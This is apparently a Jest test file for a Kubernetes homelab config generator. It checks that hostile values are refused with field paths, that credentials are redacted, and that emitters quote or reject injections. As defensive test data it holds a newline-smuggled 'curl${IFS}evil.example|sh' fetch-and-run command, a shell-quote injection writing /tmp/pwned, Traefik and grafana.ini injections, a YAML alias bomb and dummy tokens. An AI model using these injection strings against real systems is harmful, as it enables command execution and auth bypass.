/**
 * Hostile input never reaches the cluster: a corpus of payloads goes into EVERY string field of the site
 * schema (found by walking the zod schema, so a new field is covered without editing this test). Each payload
 * is refused with the field's path — never a stack trace — or, in the one free-text field (the Dex
 * configuration, a YAML document), comes out byte-exact as data in argocd-cm.
 */
import { spawnSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { synthesize } from '../charts/synth';
import { ConfigError, REDACTED, resolveSite, validateSite } from '../config/load';
import { scanForSecrets } from '../config/secret-scan';
import { EXAMPLE_CA_PEM } from '../config/trust';
import { APPS } from '../constructs/registry';
import { HOSTILE_SITES, inputWith, PAYLOADS, stringFields, VAULT_TOKEN_LIKE } from './corpus';
import { findResource, synth } from './helpers';
import { budget } from './tier';

const dotted = (path: readonly (string | number)[]) => path.map((p, i) => (typeof p === 'number' ? `[${p}]` : `${i ? '.' : ''}${p}`)).join('');

function outcome(input: unknown): { ok: true } | { ok: false; paths: string[]; values: unknown[] } {
  try {
    validateSite(input, 'corpus');
    return { ok: true };
  } catch (e) {
    // Anything but a ConfigError is a crash: the test fails with it.
    if (!(e instanceof ConfigError)) throw e;
    return { ok: false, paths: e.issues.map((i) => i.path), values: e.issues.map((i) => i.value) };
  }
}

const FIELDS = stringFields();
/** Characters no target treats specially (sh, HCL, XML, YAML plain scalar after the yaml library, Go templates). */
const INERT = /^[A-Za-z0-9_@%+=:,./~-]{0,2048}$/;
const FREE_TEXT = new Set(['workloads.argocd.dex.config']);
const CHECKED_FIELDS = FIELDS.filter((f) => !FREE_TEXT.has(dotted(f.path)));

/**
 * The corpus budget (issue 22: the whole cross product, 13,000 validations, was most of `npm test`): in CI (and
 * with DOMUS_PROPERTY_BUDGET=full) every payload goes into every field; locally field i gets payload j when
 * (i + j) % STRIDE is 0, so every payload still runs (on every STRIDE-th field) and every field still gets a
 * share of the payloads, rotating through the corpus.
 */
const STRIDE = budget(6, 1);
const payloadsFor = (fieldIndex: number): readonly string[] => PAYLOADS.filter((_, j) => (fieldIndex + j) % STRIDE === 0);

beforeAll(() => {
  // One secretlint process for the whole corpus instead of one per case (results are cached per text).
  scanForSecrets(PAYLOADS.flatMap((p) => [p, `https://vault.domus.lan:8200${p}`, `main${p}`, `${p}-x`]).map((text, i) => ({ id: String(i), text })));
});

test('the schema walk finds the string fields that reach generated files', () => {
  const paths = FIELDS.map((f) => dotted(f.path));
  for (const p of [
    'vault.address',
    'vault.caCert',
    'git.repoURL',
    'git.revision',
    'git.path',
    'workloads.argocd.dex.config',
    'cluster.domain',
    'nodes[0].name',
    'workloads.minio.buckets[0].name',
    'workloads.traefik.adminAllowCidrs[0]',
  ])
    expect(paths).toContain(p);
  expect(paths.length).toBeGreaterThan(60);
});

test('the local corpus budget still runs every payload and gives every field payloads', () => {
  const perField = CHECKED_FIELDS.map((_, i) => payloadsFor(i));
  expect(perField.every((p) => p.length > 0)).toBe(true);
  expect(PAYLOADS.filter((p) => !perField.some((ps) => ps.includes(p)))).toEqual([]);
});

describe.each(CHECKED_FIELDS.map((f, i) => [dotted(f.path), f, i] as const))('%s', (name, field, index) => {
  test('its payloads (the whole corpus in CI), alone and around a valid value, are refused with this field path or are plain words', () => {
    const crashes: string[] = [];
    for (const payload of payloadsFor(index)) {
      // Around a valid value too: a validator that only checks a prefix would pass "main\n; cmd".
      const variants = [payload, `main${payload}`, `${payload}-x`, ...(name === 'vault.address' ? [`https://vault.domus.lan:8200${payload}`] : [])];
      for (const v of variants) {
        const r = outcome(inputWith(field.path, v));
        // Accepted only when the value is a plain word (what the shell, HCL, XML, YAML and templates all read
        // literally) of bounded length: "main-rf" is a fine branch name, "main\n; cmd" never is.
        if (r.ok) {
          if (!INERT.test(v)) crashes.push(`accepted ${JSON.stringify(v.slice(0, 60))}`);
        } else if (!r.paths.some((p) => p === name || name.startsWith(`${p}.`) || name.startsWith(`${p}[`)))
          crashes.push(`${JSON.stringify(v.slice(0, 40))} refused under ${r.paths.join(', ')}, not ${name}`);
      }
    }
    expect(crashes).toEqual([]);
  });
});

describe('the Dex configuration (free YAML) carries payloads as inert data', () => {
  const ARGOCD_ONLY = APPS.filter((a) => a.key === 'argocd');
  test.each(PAYLOADS.filter((p) => p.length < 1000 && !/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/.test(p)).map((p) => [JSON.stringify(p), p]))(
    '%s',
    (_n, payload) => {
      const config = `connectors:\n  - type: oidc\n    id: idp\n    name: ${JSON.stringify(payload)}\n    config:\n      issuer: https://idp.domus.lan\n      clientID: argocd\n      clientSecret: $dex.oidc.clientSecret\n`;
      const input = { workloads: { argocd: { dex: { enabled: true, issuerHosts: ['idp.domus.lan'], config } } } };
      // Argo CD alone (the ConfigMap is its own): a sixth of a whole stack's synthesis per payload (issue 22).
      const cm = findResource('ConfigMap', 'argocd-cm', 'argocd', synthesize(validateSite(input, 'test'), { apps: ARGOCD_ONLY })) as unknown as { data: Record<string, string> };
      expect(cm.data['dex.config']).toBe(config);
      expect((parse(cm.data['dex.config']!) as { connectors: { name: string }[] }).connectors[0]!.name).toBe(payload);
    },
  );
  test('a payload that is not YAML, or a document that is not a mapping, is refused', () => {
    for (const payload of ['{{ .Data }}: [', '$(id)', '- a\n- b', 'a: [', 'x'.repeat(100 * 1024)]) {
      const r = outcome({ workloads: { argocd: { dex: { enabled: true, issuerHosts: ['idp.domus.lan'], config: payload } } } });
      expect(r.ok).toBe(false);
      if (!r.ok) expect(r.paths).toContain('workloads.argocd.dex.config');
    }
  });
});

describe('credentials are refused wherever they appear, with the field path, and never echoed', () => {
  const GHP = `ghp_${'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'}`;
  // A throwaway key made at test time (no key material in the repository).
  const PRIVATE_KEY = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ format: 'pem', type: 'pkcs8' }).toString().trim();
  const CERT = EXAMPLE_CA_PEM;
  test.each([
    ['a token in git.repoURL', { git: { repoURL: `https://${GHP}@github.com/me/homelab.git` } }, 'git.repoURL'],
    ['user:password in git.repoURL', { git: { repoURL: 'https://me:hunter2@git.domus.lan/homelab.git' } }, 'git.repoURL'],
    ['user:password in vault.address', { vault: { address: 'https://admin:hunter2@vault.domus.lan:8200' } }, 'vault.address'],
    ['a private key pasted between certificates', { vault: { caCert: `${CERT}${PRIVATE_KEY}\n${CERT}` } }, 'vault.caCert'],
    [
      'JSON-style quoted clientSecret in Dex',
      {
        workloads: {
          argocd: { dex: { enabled: true, issuerHosts: ['idp.lan'], config: '{"connectors":[{"type":"oidc","id":"x","name":"x","config":{"clientSecret":"hunter2"}}]}' } },
        },
      },
      'workloads.argocd.dex.config',
    ],
    [
      'quoted bindPW in Dex YAML',
      { workloads: { argocd: { dex: { enabled: true, issuerHosts: ['idp.lan'], config: "connectors:\n- type: ldap\n  config:\n    'bindPW': hunter2\n" } } } },
      'workloads.argocd.dex.config',
    ],
    [
      'user:password in a URL inside the Dex config',
      {
        workloads: {
          argocd: {
            dex: { enabled: true, issuerHosts: ['idp.lan'], config: 'connectors:\n- type: oidc\n  id: x\n  name: x\n  config:\n    issuer: https://argocd:hunter2@idp.lan\n' },
          },
        },
      },
      'workloads.argocd.dex.config',
    ],
    ['a token under a key the schema does not know (the unknown-field error must not echo it)', { vault: { token: GHP } }, 'vault.token'],
    ['a token in a field that accepts its characters (git.revision)', { git: { revision: GHP } }, 'git.revision'],
    [
      'a token after a secretlint-disable comment (the scanner cannot be switched off from the input)',
      {
        workloads: {
          argocd: {
            dex: { enabled: true, issuerHosts: ['idp.lan'], config: `# secretlint-disable\nconnectors:\n- type: github\n  id: gh\n  name: ${GHP} # secretlint-disable-line\n` },
          },
        },
      },
      'workloads.argocd.dex.config',
    ],
    [
      'a token anywhere in the Dex config (secretlint)',
      { workloads: { argocd: { dex: { enabled: true, issuerHosts: ['idp.lan'], config: `connectors:\n- type: github\n  id: gh\n  name: ${GHP}\n` } } } },
      'workloads.argocd.dex.config',
    ],
  ])('%s', (_n, input, path) => {
    let err: unknown;
    try {
      validateSite(input, 'site.yaml');
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(ConfigError);
    const e = err as ConfigError;
    const issue = e.issues.find((i) => i.path === path);
    expect(issue).toBeDefined();
    expect(issue!.value).toBe(REDACTED);
    for (const secret of [GHP, 'hunter2', PRIVATE_KEY.split('\n')[1]!]) expect(e.message).not.toContain(secret);
  });
  test('a token pasted as a key (a line without its field name) is neither echoed in the path nor in the value', () => {
    let msg = '';
    try {
      validateSite({ vault: { [GHP]: 'x' } }, 'site.yaml');
    } catch (e) {
      msg = (e as ConfigError).message;
    }
    expect(msg).toContain('vault.(a key holding a credential): got "(redacted)"; expected no such field');
    expect(msg).not.toContain(GHP);
  });
  test('connector settings that only look like secrets are fine (tokenURL, idTokens, passwordConnector)', () => {
    const config =
      'connectors:\n- type: oauth\n  id: o\n  name: O\n  config:\n    clientID: argocd\n    clientSecret: $dex.oauth.clientSecret\n    tokenURL: https://idp.lan/token\n    userInfoURL: https://idp.lan/userinfo\noauth2:\n  passwordConnector: local\nexpiry:\n  idTokens: 24h\n';
    expect(() => validateSite({ workloads: { argocd: { dex: { enabled: true, issuerHosts: ['idp.lan'], config } } } })).not.toThrow();
  });
  test('a reference ($dex.<key>) and a public certificate are fine', () => {
    expect(() =>
      validateSite({
        vault: { caCert: CERT },
        workloads: {
          argocd: { dex: { enabled: true, issuerHosts: ['idp.lan'], config: 'connectors:\n- type: ldap\n  id: l\n  name: L\n  config:\n    bindPW: $dex.ldap.bindPW\n' } },
        },
      }),
    ).not.toThrow();
  });
});

describe('every error is a field-path message, never a stack trace', () => {
  test('an unparsable repoURL names the field', () => {
    const r = outcome({ git: { repoURL: 'https://[::1/x.git' } });
    expect(r).toEqual({ ok: false, paths: ['git.repoURL'], values: ['https://[::1/x.git'] });
  });
  test('requests above limits name the request field and the limit', () => {
    const r = outcome({ workloads: { grafana: { resources: { requests: { cpu: '2', memory: '1Gi' }, limits: { cpu: '1', memory: '512Mi' } } } } });
    expect(r).toEqual({ ok: false, paths: ['workloads.grafana.resources.requests.cpu', 'workloads.grafana.resources.requests.memory'], values: ['2', '1Gi'] });
    expect(outcome({ workloads: { minio: { bucketJob: { resources: { requests: { cpu: '200m', memory: '128Mi' }, limits: { cpu: '200m', memory: '128Mi' } } } } } })).toEqual({
      ok: true,
    });
  });
  test('git.revision: newlines and 200 KB are refused', () => {
    expect(outcome({ git: { revision: 'main\nx' } })).toMatchObject({ ok: false, paths: ['git.revision'] });
    expect(outcome({ git: { revision: 'a'.repeat(200 * 1024) } })).toMatchObject({ ok: false, paths: ['git.revision'] });
  });
  test('resolveSite on a missing file and on broken YAML throws ConfigError only', () => {
    expect(() => resolveSite(['--config', '/nonexistent/site.yaml'], {})).toThrow(ConfigError);
    expect(() => resolveSite(['--config'], {})).toThrow(ConfigError);
  });
  test.each([null, 42, 'text', [], [1, 2], { cluster: null }, { nodes: 'x' }, { nodes: [null] }, { workloads: { minio: { buckets: [{}] } } }])('%p', (input) => {
    expect(() => validateSite(input)).not.toThrow(TypeError);
    try {
      validateSite(input);
    } catch (e) {
      expect(e).toBeInstanceOf(ConfigError);
    }
  });
});

describe('second line of defence: the emitters quote or refuse even when validation is bypassed', () => {
  const base = validateSite({});
  const forged = (patch: (s: typeof base) => void) => {
    const s = structuredClone(base);
    patch(s);
    return s;
  };
  test.each<[string, (s: typeof base) => void]>([
    ['a newline in vault.address (the reported attack on setup.sh)', (s) => void (s.vault.address = 'https://vault.domus.lan:8200/\ncurl${IFS}evil.example|sh')],
    ['a backtick in the domain (Traefik rule)', (s) => void (s.cluster.domain = 'domus.lan`) || Host(`evil')],
    ['a newline in the domain (grafana.ini)', (s) => void (s.cluster.domain = 'domus.lan\n[auth.anonymous]\nenabled = true')],
  ])('%s: synthesis refuses to emit it', (_n, patch) => {
    // Refused by the emitter (quote.ts: "cannot emit") or, for names in certificates, by the typed PKI request.
    expect(() => synthesize(forged(patch))).toThrow(/cannot emit|is not a DNS name/);
  });
  test('quotes in a Vault mount are shell- and HCL-quoted, never interpreted', () => {
    const s = synthesize(forged((x) => void (x.vault.authMount = "k3s'; touch /tmp/pwned; '")));
    const setup = s.files.get('bootstrap/vault/setup.sh')!;
    expect(setup).toContain(`-path='k3s'\\''; touch /tmp/pwned; '\\'''`);
    const check = spawnSync('bash', ['-n'], { input: setup, encoding: 'utf8' });
    expect(check.status).toBe(0);
  });
  test('the default setup.sh is valid bash and every policy is valid HCL-ish quoting', () => {
    const s = synth();
    expect(spawnSync('bash', ['-n'], { input: s.files.get('bootstrap/vault/setup.sh')!, encoding: 'utf8' }).status).toBe(0);
    // A path block: capabilities, and on the PKI issue path the allowed request parameters (quoted strings only).
    const block = String.raw`path "[^"$%\\]+" \{\n {2}capabilities = \["(read|update)"\]\n( {2}allowed_parameters = \{\n( {4}"[a-z_]+" = \["[^"$%\\]+"(, "[^"$%\\]+")*\]\n)+ {2}\}\n)?\}\n`;
    for (const [path, text] of s.files) if (path.endsWith('.hcl')) expect(text).toMatch(new RegExp(String.raw`^(#.*\n)(\n?${block})+$`));
  });
});

describe('issue 25: hostile site files are refused with the field path, credentials never echoed', () => {
  test.each(HOSTILE_SITES.map((h) => [h.name, h] as const))('%s', (_n, h) => {
    let err: unknown;
    try {
      validateSite(h.input, 'site.yaml');
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(ConfigError);
    const e = err as ConfigError;
    expect(e.issues.map((i) => i.path)).toContain(h.path);
    if (h.redacted) {
      expect(e.issues.find((i) => i.path === h.path)!.value).toBe(REDACTED);
      for (const secret of ['hunter2', VAULT_TOKEN_LIKE, 'server.secretkey']) expect(e.message).not.toContain(secret);
    }
  });
});

test('issue 25: an alias bomb is refused with the line of the first alias', () => {
  const dir = mkdtempSync(join(tmpdir(), 'domus-alias-'));
  const file = join(dir, 'site.yaml');
  const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]'];
  for (let i = 1; i < 10; i++) lines.push(`a${i}: &a${i} [${Array.from({ length: 10 }, () => `*a${i - 1}`).join(', ')}]`);
  writeFileSync(file, `cluster:\n  name: x\n${lines.join('\n')}\n`);
  let msg = '';
  try {
    resolveSite(['--config', file], {});
  } catch (e) {
    expect(e).toBeInstanceOf(ConfigError);
    msg = (e as Error).message;
  }
  expect(msg).toMatch(/YAML error at line 4: .*alias/i);
});

describe('issue 25, item 10: the generator bugs that survived the suite now fail it', () => {
  const issuesOf = (input: unknown) => {
    try {
      validateSite(input, 'site.yaml');
    } catch (e) {
      return (e as ConfigError).issues;
    }
    return [];
  };
  test.each([
    ['https://token@git.domus.lan/homelab/x.git', 'git.repoURL'],
    ['https://ghs_abc@git.domus.lan/homelab/x.git', 'git.repoURL'],
  ])('a user without password (a token) in %s is refused under %s, redacted', (url, path) => {
    const issue = issuesOf({ git: { repoURL: url } }).find((i) => i.path === path);
    expect(issue?.value).toBe(REDACTED);
    expect(issue?.expected).toMatch(/without user:password or token/);
  });
  test('a token as the user of vault.address is refused, redacted', () => {
    const issue = issuesOf({ vault: { address: 'https://s3cr3t@vault.domus.lan:8200' } }).find((i) => i.path === 'vault.address');
    expect(issue?.value).toBe(REDACTED);
  });
  test.each(['kube-system', 'kube-public', 'kube-node-lease', 'default'])('namespaces.monitoring = %s is refused', (ns) => {
    expect(issuesOf({ namespaces: { monitoring: ns } }).find((i) => i.path === 'namespaces.monitoring')?.expected).toBe(
      'a namespace of the stack, not a Kubernetes system namespace',
    );
  });
  test.each(['password', 'bindPW', 'clientSecret', 'keystonePassword', 'apiToken', 'privateKey'])('Dex key %s holding a value is refused by the Dex rule itself', (key) => {
    const issue = issuesOf({
      workloads: { argocd: { dex: { enabled: true, issuerHosts: ['idp.lan'], config: `connectors:\n- type: ldap\n  id: l\n  name: L\n  config:\n    ${key}: plain\n` } } },
    }).find((i) => i.path === 'workloads.argocd.dex.config');
    expect(issue?.expected).toMatch(/never written inline: connectors\[0\]\.config\.\w+ holds a value/);
    expect(issue?.value).toBe(REDACTED);
  });
  test("the private-key rule's own issue is redacted (not only secretlint's)", () => {
    const key = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ format: 'pem', type: 'pkcs8' }).toString().trim();
    const issues = issuesOf({ vault: { caCert: `${EXAMPLE_CA_PEM}${key}\n` } }).filter((i) => i.path === 'vault.caCert');
    const own = issues.find((i) => /no private key/.test(i.expected));
    expect(own?.value).toBe(REDACTED);
    for (const i of issues) expect(JSON.stringify(i)).not.toContain(key.split('\n')[1]!);
  });
});
